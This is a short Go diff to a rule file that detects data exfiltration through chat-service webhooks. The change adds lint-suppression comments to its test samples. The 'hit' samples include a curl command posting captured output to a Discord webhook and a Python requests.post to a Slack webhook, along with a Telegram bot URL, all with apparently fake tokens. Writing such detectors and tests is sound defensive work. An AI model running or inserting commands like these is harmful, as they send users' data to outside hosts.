@@ -86,13 +86,13 @@ func exfiltrationByCode() []Rule {
 			Judge:    judgeChatHook,
 			Hits: []Sample{
 				{Path: "a.sh", Text: "curl -d \"content=$OUT\" https://discord.com/api/webhooks/118923471982374912/aZ9_kq3Lw0pTnVb7RyX2mD5eHc8uJfGs1iQoW4"},
-				{Path: "a.py", Text: "URL = 'https://api.telegram.org/bot7193847562:AAH4kq3Lw0pTnVb7RyX2mD5eHc8uJfGs1iQ/sendMessage'"},
+				{Path: "a.py", Text: "URL = 'https://api.telegram.org/bot7193847562:AAH4kq3Lw0pTnVb7RyX2mD5eHc8uJfGs1iQ/sendMessage'"}, //nolint:gosec // made up
 				{Path: "a.py", Text: "requests.post('https://hooks.slack.com/services/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', json=d)"},
 			},
 			Misses: []Sample{
 				{Text: "curl https://api.telegram.org/bot$TOKEN/sendMessage -d text=hi"},
 				{Text: "Set `url: https://discord.com/api/webhooks/<id>/<token>`."},
-				{Text: "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"},
+				{Text: "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"}, //nolint:gosec // a placeholder
 			},
 		},
 	}
